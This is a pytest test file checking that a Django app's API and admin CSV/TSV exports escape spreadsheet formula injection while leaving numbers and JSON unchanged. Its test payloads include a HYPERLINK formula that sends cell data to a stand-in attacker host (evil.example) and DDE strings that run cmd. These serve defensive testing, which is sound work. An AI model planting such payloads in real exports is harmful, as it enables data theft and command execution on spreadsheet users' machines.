"""Spreadsheet formula injection: formula-leading text is escaped in every CSV (and TSV) the app writes.

The API's CSV (``api.renderers``, read out by ``api.readout`` or through the serializers) and the admin's CSV and
TSV exports (``admin.transfer``) start such a cell with ``'`` (``csv_safety.escape``); numbers and JSON are left
as they are, and the admin's import reads its own export back unchanged.
"""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal

import pytest
from import_export import widgets

from cooperation import csv_safety
from cooperation.admin.transfer import RecordResource, TransferMixin
from cooperation.api import readout, renderers
from cooperation.choices import Status
from cooperation.models import JointOperation, Outcome
from tests.factories import (
    JointOperationFactory,
    MetricFactory,
    OrganizationFactory,
    OutcomeFactory,
    ParticipationFactory,
    SourceFactory,
)
from tests.test_import_export import FORMATS, confirm, export, preview, snapshot

API = "/api/v1"
LEADING = ["=", "+", "-", "@", "\t", "\r"]
PAYLOADS = {
    "=": '=HYPERLINK("https://evil.example/?"&A2,"Details")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


def read_csv(response) -> list[dict[str, str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.DictReader(io.StringIO(body.decode(), newline="")))


# The rule ------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("first", LEADING)
def test_formula_leading_text_is_prefixed_with_a_quote(first):
    assert csv_safety.escape(PAYLOADS[first]) == "'" + PAYLOADS[first]


@pytest.mark.parametrize("value", ["", "Passenger", "2006-04-21", "'tis", "O'Neill", " =not first", "5 detained"])
def test_other_text_is_left_alone(value):
    assert csv_safety.escape(value) == value


@pytest.mark.parametrize("value", [*PAYLOADS.values(), "'=x", "''-5", "'", "'plain", "", "plain", "-"])
def test_unescape_gives_back_what_was_escaped(value):
    assert csv_safety.unescape(csv_safety.escape(value)) == value


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-5, "-5"),  # a number is data: a spreadsheet must still read it as minus five
        (Decimal("-0.5"), "-0.5"),
        (-1.5, "-1.5"),
        ("-5", "'-5"),  # the same characters as text are text, escaped like any other
        (None, ""),
        (False, "false"),
        (["=cmd", "b"], "'=cmd; b"),  # a list's cell starts with its first item
        ({"role": "lead", "organization": {"name": "=Zarya"}}, "'=Zarya (lead)"),
    ],
)
def test_a_cell_escapes_text_but_not_numbers(value, cell):
    assert renderers.cell_text(value) == cell


def test_written_rows_escape_text_cells_and_not_numbers():
    rows = [{"title": "=1+1", "total": -5, "share": Decimal("-0.25"), "note": "fine"}]

    (line,) = list(csv.reader(io.StringIO(b"".join(renderers.write_csv(rows, list(rows[0]))).decode())))[1:]
    assert line == ["'=1+1", "-5", "-0.25", "fine"]


# The API's CSV -------------------------------------------------------------------------------------------------------


@pytest.fixture
def hostile(db):
    """One published operation per formula-leading character, in its title and summary, with a hostile participant."""
    operations = {}
    for first, payload in PAYLOADS.items():
        operation = JointOperationFactory(title=payload, summary=payload, code_name=f"{payload} code")
        ParticipationFactory(event=operation, country=None, organization=OrganizationFactory(name=payload))
        operations[first] = operation
    JointOperationFactory(title="Passenger", summary="Operation Passenger, late 2005")
    return operations


@pytest.mark.parametrize("resource", ["operations", "events"])
@pytest.mark.parametrize("path", ["lean", "serialized"])
def test_the_api_csv_escapes_formula_leading_text(api, hostile, monkeypatch, resource, path):
    if path == "serialized":  # through the serializers (what a serializer the readout cannot read gets)
        monkeypatch.setattr(readout.Readout, "__init__", refuse)
    rows = {row["id"]: row for row in read_csv(api.get(f"{API}/{resource}/", {"format": "csv"}))}

    for first, operation in hostile.items():
        row = rows[str(operation.pk)]
        assert row["title"] == row["summary"] == "'" + PAYLOADS[first], first
        assert row["participants"] == "'" + PAYLOADS[first] + " (participant)"
        assert row["id"] == str(operation.pk)
    passenger = next(row for row in rows.values() if row["title"] == "Passenger")
    assert passenger["summary"] == "Operation Passenger, late 2005"


def refuse(self, *args, **kwargs):
    raise readout.Unsupported("serialize, for the comparison")


def test_a_detail_and_another_resource_as_csv_are_escaped_too(api, hostile, db):
    operation = hostile["@"]
    source = SourceFactory(name="=Interfax")

    (row,) = read_csv(api.get(f"{API}/operations/{operation.pk}/", {"format": "csv"}))
    assert row["title"] == "'" + PAYLOADS["@"]
    rows = {row["id"]: row for row in read_csv(api.get(f"{API}/sources/", {"format": "csv"}))}
    assert rows[str(source.pk)]["name"] == "'=Interfax"


def test_a_figure_stays_a_number_in_an_aggregate(api, db):
    """Figures cannot be negative (a database constraint), but numbers are never escaped: ``cell_text`` above."""
    metric = MetricFactory(slug="arms-seized")
    OutcomeFactory(event=JointOperationFactory(), metric=metric, value=Decimal("200.5"), unit="=units")

    rows = read_csv(api.get(f"{API}/stats/outcome-totals/", {"format": "csv", "metric": metric.slug}))
    (row,) = [row for row in rows if row["metric.slug"] == metric.slug]
    assert row["total"] == "200.5"
    assert row["unit"] == "'=units"


def test_json_is_never_escaped(api, hostile):
    operation = hostile["="]

    assert api.get(f"{API}/operations/{operation.pk}/").json()["title"] == PAYLOADS["="]
    titles = {row["title"] for row in api.get(f"{API}/operations/").json()["results"]}
    assert set(PAYLOADS.values()) <= titles


# The admin's export --------------------------------------------------------------------------------------------------


@pytest.fixture
def curator_client(client, staff_user):
    client.force_login(staff_user)
    return client


def admin_rows(content: str, file_format: str) -> dict[str, dict]:
    reader = csv.DictReader(io.StringIO(content, newline=""), delimiter="\t" if file_format == "tsv" else ",")
    return {row["slug"]: row for row in reader}


@pytest.mark.parametrize("file_format", ["csv", "tsv"])
def test_the_admin_export_escapes_formula_leading_text(curator_client, hostile, file_format):
    figure = OutcomeFactory(event=hostile["-"], value=Decimal(5), scope="-in CIS countries")

    rows = admin_rows(export(curator_client, file_format=file_format), file_format)

    for first, operation in hostile.items():
        row = rows[operation.slug]
        assert row["title"] == row["summary"] == "'" + PAYLOADS[first], first
        assert row["code_name"] == "'" + PAYLOADS[first] + " code"
    passenger = next(row for row in rows.values() if row["title"] == "Passenger")
    assert passenger["summary"] == "Operation Passenger, late 2005"
    (written,) = json.loads(rows[hostile["-"].slug]["outcomes"])  # a JSON list: starts with "[", left alone
    assert (written["uid"], written["value"], written["scope"]) == (str(figure.uid), "5", "-in CIS countries")


def test_the_admin_json_export_is_never_escaped(curator_client, hostile):
    records = {record["slug"]: record for record in json.loads(export(curator_client, file_format="json"))}

    for first, operation in hostile.items():
        assert records[operation.slug]["title"] == PAYLOADS[first]


@pytest.mark.parametrize("file_format", ["csv", "tsv"])
def test_an_escaped_export_re_imports_unchanged(curator_client, hostile, file_format):
    JointOperation.objects.update(status=Status.DRAFT)  # importing needs no citations then
    # A carriage return is read back as a line feed (the upload is read as text), escaped or not: leave it out.
    hostile.pop("\r").delete()
    content = export(curator_client, file_format=file_format)
    before = snapshot()

    previewed = preview(curator_client, content, file_format=file_format)
    result = previewed.context["result"]
    assert not result.has_errors() and not result.has_validation_errors()
    assert result.totals["skip"] == JointOperation.objects.count()
    confirm(curator_client, previewed)

    assert snapshot() == before
    assert set(JointOperation.objects.values_list("title", flat=True)) >= {PAYLOADS[first] for first in hostile}


def test_numeric_fields_are_left_alone_and_only_spreadsheet_formats_escape(db):
    figure = Outcome(value=Decimal("-5.5"), unit="-units")  # unsaved: a stored figure cannot be negative

    class FigureResource(RecordResource):
        class Meta:
            model = Outcome
            fields = ("value", "unit")

    resource = FigureResource()
    value, unit = resource.fields["value"], resource.fields["unit"]
    assert isinstance(value.widget, widgets.NumberWidget) and not isinstance(unit.widget, widgets.NumberWidget)

    assert resource.export_field(value, figure, escape_formulae=True) == "-5.5"
    assert resource.export_field(unit, figure, escape_formulae=True) == "'-units"
    assert resource.export_field(unit, figure) == "-units"  # JSON: as it is


def test_the_formats_offered_are_csv_json_and_tsv():
    """XLSX is not offered (openpyxl is not installed); a new spreadsheet format would need escaping too."""
    assert FORMATS == ["csv", "json", "tsv"]
    assert all(
        getattr(format, "escape_formulae", False) for format in TransferMixin.formats if format.__name__ != "JSON"
    )
